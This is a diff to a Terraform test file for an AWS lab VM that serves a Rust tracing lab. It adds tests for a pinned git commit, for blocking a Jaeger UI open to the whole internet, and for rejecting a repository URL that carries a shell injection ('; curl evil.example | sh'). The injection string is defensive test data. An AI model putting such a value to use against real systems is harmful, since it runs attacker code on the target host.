@@ -14,6 +14,12 @@ mock_provider "aws" {
     }
   }
 
+  mock_data "aws_ec2_instance_type_offerings" {
+    defaults = {
+      locations = ["us-east-1a", "us-east-1b"]
+    }
+  }
+
   mock_data "aws_subnets" {
     defaults = {
       ids = ["subnet-0123456789abcdef0"]
@@ -31,7 +37,7 @@ variables {
   allowed_app_cidrs    = ["203.0.113.4/32", "198.51.100.0/24"]
   allowed_jaeger_cidrs = ["203.0.113.4/32"]
   repository_url       = "https://example.org/rust-tracing-lab.git"
-  git_ref              = "v1.0.0"
+  git_commit           = "0123456789abcdef0123456789abcdef01234567"
 }
 
 run "a_hardened_vm_with_the_lab_ports_only" {
@@ -63,8 +69,8 @@ run "a_hardened_vm_with_the_lab_ports_only" {
   }
 
   assert {
-    condition     = strcontains(aws_instance.lab.user_data, "https://example.org/rust-tracing-lab.git") && strcontains(aws_instance.lab.user_data, "\"v1.0.0\"")
-    error_message = "cloud-init must fetch the chosen repository and ref"
+    condition     = strcontains(aws_instance.lab.user_data, "https://example.org/rust-tracing-lab.git") && strcontains(aws_instance.lab.user_data, "0123456789abcdef0123456789abcdef01234567")
+    error_message = "cloud-init must fetch the chosen repository at the pinned commit"
   }
 }
 
@@ -100,4 +106,48 @@ run "ssh_from_everywhere_is_refused" {
   }
 
   expect_failures = [var.ssh_cidrs]
+}
+
+run "jaeger_for_the_whole_internet_is_refused_unless_asked" {
+  command = plan
+
+  variables {
+    allowed_jaeger_cidrs = ["0.0.0.0/0"]
+  }
+
+  expect_failures = [aws_vpc_security_group_ingress_rule.jaeger_ui]
+}
+
+run "jaeger_for_the_whole_internet_when_asked" {
+  command = plan
+
+  variables {
+    allowed_jaeger_cidrs       = ["0.0.0.0/0"]
+    allow_jaeger_from_anywhere = true
+  }
+
+  assert {
+    condition     = length(aws_vpc_security_group_ingress_rule.jaeger_ui) == 1
+    error_message = "an explicit allow_jaeger_from_anywhere opens the UI"
+  }
+}
+
+run "a_branch_instead_of_a_commit_is_refused" {
+  command = plan
+
+  variables {
+    git_commit = "main"
+  }
+
+  expect_failures = [var.git_commit]
+}
+
+run "a_repository_url_that_could_run_shell_is_refused" {
+  command = plan
+
+  variables {
+    repository_url = "https://example.org/x.git'; curl evil.example | sh; '"
+  }
+
+  expect_failures = [var.repository_url]
 }
